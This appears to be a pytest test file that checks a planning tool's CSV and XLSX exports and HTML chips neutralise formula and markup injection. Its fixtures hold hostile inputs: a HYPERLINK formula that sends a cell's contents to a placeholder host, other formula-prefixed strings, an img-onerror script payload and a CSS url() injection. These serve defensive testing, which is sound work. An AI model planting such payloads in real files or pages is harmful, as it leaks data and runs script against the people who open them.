"""Text a user typed never becomes a live formula in any export, nor markup on a page: every CSV and XLSX writer
and every chip pass the one place that neutralises or escapes (sq_layout.cells, layers.panel.chip_html)."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest

from sq_layout.cells import FORMULA_START
from sq_layout.plan.dataset import Dataset, bundled

EVIL = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
IMG = '<img src=x onerror="document.title=1">'


@pytest.fixture(scope="module")
def evil() -> Dataset:
    """The bundled plan with formula-looking names on areas, industries, chains and chain links' labels."""
    ds = bundled()
    areas, industries, chains = ds.areas.copy(), ds.industries.copy(), ds.chains.copy()
    for i, v in enumerate(EVIL):
        areas.loc[i, "name"] = v
        chains.loc[i, "name"] = v
    industries.loc[0, "name"] = EVIL[0]
    industries.loc[1, "name"] = IMG
    return replace(ds, areas=areas, industries=industries, chains=chains)


def _live_formulas(data: bytes) -> list[str]:
    """Cells a spreadsheet would compute: formula cells, or text cells that start like a formula."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    found = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    found.append(f"{ws.title}!{c.coordinate}")
    return found


def _formula_text_cells(data: bytes) -> list[str]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [
        str(c.value)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value.startswith(FORMULA_START)
    ]


def _raw_csv_fields(text: str) -> list[str]:
    import csv

    return [f for row in csv.reader(io.StringIO(text, newline="")) for f in row]


def test_bundle_csvs_carry_no_live_formula_and_import_back_the_same(evil: Dataset) -> None:
    from sq_layout.export.version_export import bundle_files, bundle_zip

    files = bundle_files(evil)
    for name, data in files.items():
        if name.endswith(".csv"):
            fields = _raw_csv_fields(data.decode("utf-8"))
            assert not [f for f in fields if f.startswith(FORMULA_START)], name
    text = files["plan/areas.csv"].decode("utf-8")
    assert "'=HYPERLINK" in text and "'@SUM(A1)" in text
    with zipfile.ZipFile(io.BytesIO(bundle_zip(evil))) as z:
        assert z.read("plan/areas.csv") == files["plan/areas.csv"]


def test_bundle_round_trip_restores_the_text(evil: Dataset, tmp_path: Path) -> None:
    from sq_layout.export.version_export import bundle_files
    from sq_layout.plan.tables import read_raw

    path = tmp_path / "areas.csv"
    path.write_bytes(bundle_files(evil)["plan/areas.csv"])
    assert list(read_raw(path)["name"][: len(EVIL)]) == EVIL


def test_plan_template_workbook_has_no_live_formula(evil: Dataset) -> None:
    from sq_layout.imports.plan_template import template_bytes

    data = template_bytes(evil)
    assert _live_formulas(data) == []
    assert EVIL[0] in _formula_text_cells(data)  # kept as the text it is, stored as text


def test_investment_template_has_no_live_formula(evil: Dataset) -> None:
    from sq_layout.invest.seed import read_links
    from sq_layout.invest.template import template_bytes

    links = read_links().copy()
    links.loc[0, "name"] = EVIL[1]
    data = template_bytes(evil, links)
    assert _live_formulas(data) == []
    assert {EVIL[0], EVIL[1]} <= set(_formula_text_cells(data))


def test_gap_and_record_workbooks_have_no_live_formula(evil: Dataset) -> None:
    from sq_layout.invest.gapexport import gap_xlsx, records_xlsx
    from sq_layout.invest.repository import plan_baseline

    data = plan_baseline(evil)
    chain_no = int(evil.chains["chain_no"].iloc[0])
    gap = gap_xlsx(evil, data, chain_no)
    for book in (gap, records_xlsx(evil, data, data.firms, data.projects)):
        assert _live_formulas(book) == []
    assert _formula_text_cells(gap)  # the area names are there, as text


def test_every_data_export_format_has_no_live_formula(evil: Dataset) -> None:
    from sq_layout.analysis.queries import Selection
    from sq_layout.export.dataexport import export_bytes

    assert _live_formulas(export_bytes("xlsx", evil, Selection(), None, "zh", whole=True)) == []
    with zipfile.ZipFile(io.BytesIO(export_bytes("zip", evil, Selection(), None, "zh", whole=True))) as z:
        for name in z.namelist():
            if name.endswith(".csv"):
                fields = _raw_csv_fields(z.read(name).decode("utf-8-sig"))
                assert not [f for f in fields if f.startswith(FORMULA_START)], name


def test_overview_chips_escape_names_and_refuse_css_colours() -> None:
    from layers.panel import overview_chips_html

    html = overview_chips_html([("#4E79A7", IMG, "主导产业"), ('red;background:url("x")', "a", "b")])
    assert "<img" not in html and "&lt;img" in html
    assert "url(" not in html and "#888888" in html


def test_a_hundred_character_chain_name_gives_a_bounded_page_file_name(tmp_path: Path) -> None:
    from sq_layout.printing.atlas import atlas_pages

    ds = bundled()
    chains = ds.chains.copy()
    chains.loc[0, "name"] = "长" * 100
    stems = [p.stem for p in atlas_pages(replace(ds, chains=chains), "zh")]
    long = [s for s in stems if "长" * 30 in s]
    assert long and max(len(f"{s}-9.png".encode()) for s in stems) <= 255
    (tmp_path / f"{long[0]}-2.png").write_bytes(b"x")  # the file system takes it
